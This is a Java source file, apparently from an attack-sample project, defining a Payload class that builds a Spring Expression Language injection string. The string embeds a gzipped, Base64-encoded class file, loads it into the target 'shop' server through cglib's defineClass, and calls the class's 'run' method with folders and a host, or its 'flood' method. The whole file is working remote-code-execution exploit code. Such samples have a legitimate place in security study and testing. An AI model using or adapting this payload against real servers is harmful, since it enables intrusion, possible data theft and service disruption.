package whorl.samples.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.concurrent.ThreadLocalRandom;
import java.util.zip.GZIPOutputStream;

/**
 * A class on its way into the shop: its bytes, gzipped and in Base64, inside an expression that
 * defines it beside one of Spring's own interfaces.
 */
final class Payload {
  private static final String SIMPLE_NAME = "Promo00000000";
  private static final String PACKAGE = "org.springframework.expression.";

  private final String className;
  private final byte[] bytes;

  private Payload(String className, byte[] bytes) {
    this.className = className;
    this.bytes = bytes;
  }

  /** The payload under a name that no JVM has seen yet. */
  static Payload fresh() throws IOException {
    String simpleName =
        String.format("Promo%08d", ThreadLocalRandom.current().nextInt(100_000_000));
    String resource = "/" + PACKAGE.replace('.', '/') + SIMPLE_NAME + ".class";
    try (InputStream in = Payload.class.getResourceAsStream(resource)) {
      if (in == null) {
        throw new IOException("the attack's jar lacks " + resource);
      }
      // Both names have the same length, so the class file stays whole. Latin-1 keeps every byte.
      String text = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
      byte[] bytes = text.replace(SIMPLE_NAME, simpleName).getBytes(StandardCharsets.ISO_8859_1);
      return new Payload(PACKAGE + simpleName, bytes);
    }
  }

  String className() {
    return className;
  }

  String run(ShopClient shop, String folders, String host)
      throws IOException, InterruptedException {
    return shop.evaluate(
        defined()
            + ".getMethod('run', T(String), T(String)).invoke(null, '"
            + folders
            + "', '"
            + host
            + "')");
  }

  String flood(ShopClient shop, int millis) throws IOException, InterruptedException {
    return shop.evaluate(
        defined() + ".getMethod('flood', T(int)).invoke(null, T(Integer).valueOf(" + millis + "))");
  }

  /** An expression whose value is the class. */
  private String defined() throws IOException {
    return "T(org.springframework.cglib.core.ReflectUtils).defineClass('"
        + className
        + "', new java.util.zip.GZIPInputStream(new java.io.ByteArrayInputStream("
        + "T(java.util.Base64).getUrlDecoder().decode('"
        + Base64.getUrlEncoder().encodeToString(gzipped(bytes))
        + "'))).readAllBytes(), T(Thread).currentThread().getContextClassLoader(), null, "
        + "T(org.springframework.expression.ExpressionParser))";
  }

  private static byte[] gzipped(byte[] bytes) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(bytes);
    }
    return out.toByteArray();
  }
}
